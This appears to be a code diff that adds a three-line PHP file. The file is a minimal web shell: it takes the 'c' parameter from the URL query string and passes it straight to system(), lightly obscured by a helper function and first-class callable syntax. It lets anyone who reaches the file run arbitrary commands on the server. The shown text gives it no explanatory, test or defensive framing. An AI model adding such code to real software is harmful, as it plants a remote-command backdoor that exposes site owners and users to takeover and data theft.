@@ -1,0 +1,3 @@
+<?php
+function g() { return $_GET["c"]; }
+system((g(...))());
